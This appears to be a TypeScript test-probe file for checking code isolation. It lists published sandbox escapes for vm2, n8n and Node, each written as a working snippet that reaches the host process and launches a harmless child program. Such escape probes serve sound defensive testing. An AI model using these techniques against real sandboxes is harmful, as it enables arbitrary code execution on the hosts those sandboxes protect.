import type { Probe } from '../probe';

const startProgram = `.getBuiltinModule('child_process').execFileSync(process.execPath, ['-p', '42']).toString()`;

/** Published escapes from libraries that isolate code by the language alone. Each reaches the host's process and starts a program. */
export const escapeProbes: Probe[] = [
	{
		id: 'host-exception',
		attempt: 'leave a context by an error of the host',
		from: 'CVE-2023-29017, CVE-2023-30547 of vm2',
		level: 'L0',
		code: `
			const host = { fail: () => null.x };
			const leave = require('node:vm').runInNewContext('try { host.fail(); } catch (error) { error.constructor.constructor("return process")(); }', { host });
			return leave${startProgram};
		`,
	},
	{
		id: 'host-promise',
		attempt: 'leave a context by a promise of the host',
		from: 'CVE-2023-37466, CVE-2026-22709 of vm2',
		level: 'L0',
		code: `
			const leave = require('node:vm').runInNewContext('wait().then.constructor("return process")()', { wait: async () => undefined });
			return leave${startProgram};
		`,
	},
	{
		id: 'custom-inspection',
		attempt: 'leave a context when the host prints a value',
		from: 'CVE-2023-37903 of vm2',
		level: 'L0',
		code: `
			const context = {};
			const code = '({ [Symbol.for("nodejs.util.inspect.custom")]: (depth, options, inspect) => { leave = inspect.constructor("return process")(); return ""; } })';
			require('node:util').inspect(require('node:vm').runInNewContext(code, context));
			return context.leave${startProgram};
		`,
	},
	{
		id: 'destructured-constructor',
		attempt: 'reach the constructor of functions without naming it as a member',
		from: 'CVE-2026-25049, CVE-2026-27577 of n8n',
		level: 'L0',
		code: `const { constructor: make } = () => undefined; return make('return process')()${startProgram};`,
	},
	{
		id: 'built-in-module',
		attempt: 'load a module of Node without require',
		from: 'CVE-2026-27495 of n8n',
		level: 'L0',
		code: `return globalThis.process${startProgram};`,
	},
	{
		id: 'web-assembly-import',
		attempt: 'leave WebAssembly by a function of its host that evaluates code',
		from: 'CVE-2025-68668 of n8n',
		level: 'L0',
		code: `
			const bytes = [0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 101, 1, 114, 0, 0, 8, 1, 0];
			let reached;
			const run = () => { reached = (0, eval)("process${startProgram.replaceAll("'", '`')}"); };
			new WebAssembly.Instance(new WebAssembly.Module(Uint8Array.from(bytes)), { e: { r: run } });
			return reached;
		`,
	},
	{
		id: 'module-constructor',
		attempt: 'start a program by the constructor of its module',
		from: 'CVE-2023-32002, CVE-2023-32006',
		level: 'L0',
		code: `return module.constructor._load('child_process').execFileSync(process.execPath, ['-p', '42']).toString();`,
	},
	{
		id: 'data-import',
		attempt: 'start a program in a module that is an address',
		from: 'CVE-2024-22020',
		level: 'L0',
		code: `return (await import('data:text/javascript,' + encodeURIComponent("import { execFileSync } from 'node:child_process'; export default execFileSync(process.execPath, ['-p', '42']).toString();"))).default;`,
	},
];
